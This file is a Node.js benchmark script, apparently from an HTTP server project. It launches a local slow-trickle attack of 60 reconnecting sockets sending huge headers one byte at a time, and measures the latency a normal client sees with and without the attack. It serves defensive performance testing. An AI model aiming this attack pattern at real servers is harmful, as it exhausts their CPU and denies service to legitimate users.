#!/usr/bin/env node
// Trickled giant heads: 60 sockets each send a request whose head holds three 64,000-byte
// header lines, the first ~70 KB at once and the rest one byte per write, while a normal
// client GETs a small file on a fresh connection every 50 ms. Prints that client's latency
// (median and max) without and with the attack. A server that re-joins and re-parses the
// whole buffered head on every read spends quadratic CPU and the normal client waits.
//
//   npm run build && node bench/trickle-heads.mjs [--seconds 10] [--python]
//
// --python measures `python3 -m http.server` instead (the reference). Figures go to stdout
// as one JSON line; docs/security.md "Found by review, fixed" quotes them.
import { fork } from 'node:child_process';
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { stopProcess } from './lib/processes.mjs';
import { latencies, option, startVictim } from './lib/victim.mjs';

const ATTACK_SOCKETS = 60;
const HEADER_BYTES = 64_000;
const HEADERS = 3;
/** Sent in one write, so the server holds more than 64 KiB of head from the start. */
const BURST_BYTES = 70_000;
const PROBE_EVERY_MS = 50;

const args = process.argv.slice(2);

if (args[0] === '--attacker') await attack(Number(args[1]));
else await main();

function attackHead() {
  const lines = ['GET / HTTP/1.1', 'Host: 127.0.0.1'];
  for (let i = 0; i < HEADERS; i++) lines.push(`X-Big-${i}: ${'a'.repeat(HEADER_BYTES)}`);
  return Buffer.from(lines.join('\r\n') + '\r\n\r\n', 'latin1');
}

/** Runs in its own process: keeps ATTACK_SOCKETS trickling until killed. */
async function attack(port) {
  const head = attackHead();
  const one = (socket, offset) => {
    if (socket.destroyed) return;
    if (offset >= head.length) return; // the whole head went out: wait for the 408 or close
    socket.write(head.subarray(offset, offset + 1), () => setImmediate(one, socket, offset + 1));
  };
  const open = () => {
    const socket = net.connect({ port, host: '127.0.0.1' });
    socket.setNoDelay(true);
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    socket.once('close', () => setTimeout(open, 10)); // a cut attacker comes back
    socket.once('connect', () => {
      socket.write(head.subarray(0, BURST_BYTES), () => one(socket, BURST_BYTES));
    });
  };
  for (let i = 0; i < ATTACK_SOCKETS; i++) open();
  await new Promise(() => undefined);
}

async function main() {
  const seconds = Number(option(args, '--seconds', '10'));
  const { server, port } = await startVictim({
    python: args.includes('--python'),
    prefix: 'trickle-',
  });
  try {
    const quiet = await latencies(port, { seconds: Math.min(3, seconds), everyMs: PROBE_EVERY_MS });
    const attacker = fork(fileURLToPath(import.meta.url), ['--attacker', String(port)]);
    await sleep(1_000); // every attacker holds > 64 KiB before measuring
    const underAttack = await latencies(port, { seconds, everyMs: PROBE_EVERY_MS });
    attacker.kill('SIGKILL');
    console.log(
      JSON.stringify({
        server: server.name,
        attack: `${ATTACK_SOCKETS} sockets × ${HEADERS} headers of ${HEADER_BYTES} bytes, trickled`,
        quiet,
        underAttack,
      }),
    );
  } finally {
    await stopProcess(server);
  }
}
